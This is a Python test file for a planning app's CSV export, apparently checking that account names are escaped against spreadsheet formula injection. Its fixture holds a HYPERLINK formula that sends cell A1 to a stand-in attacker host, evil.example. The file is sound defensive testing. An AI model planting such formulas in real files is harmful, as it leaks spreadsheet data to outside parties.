"""The owner update an integrator downloads as CSV writes a name a spreadsheet would run as a
formula as text, as every CSV the CLI writes does (an account named in the CRM by someone
careless or hostile reaches the planner who opens the file)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from fastapi.testclient import TestClient

from terraplan.storage.database import Database
from terraplan.storage.unit_of_work import UnitOfWork

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_names_are_text_in_the_csv(active_p1: Database, client: TestClient) -> None:
    with UnitOfWork(active_p1) as uow:
        account = uow.accounts.list(limit=1)[0]
        uow.accounts.add_many([replace(account, name=FORMULA)])
        uow.commit()
    answer = client.get("/plans/P1/owner-updates", params={"changed": "false", "format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = {r["account_id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
    assert rows[account.id]["account_name"] == "'" + FORMULA
    # the JSON answer keeps the name as it is stored: only the spreadsheet file is guarded
    every = client.get("/plans/P1/owner-updates", params={"changed": "false"}).json()
    (same,) = [r for r in every["rows"] if r["account_id"] == account.id]
    assert same["account_name"] == FORMULA
    assert not any(v.startswith(("=", "+", "@")) for r in rows.values() for v in r.values() if v)
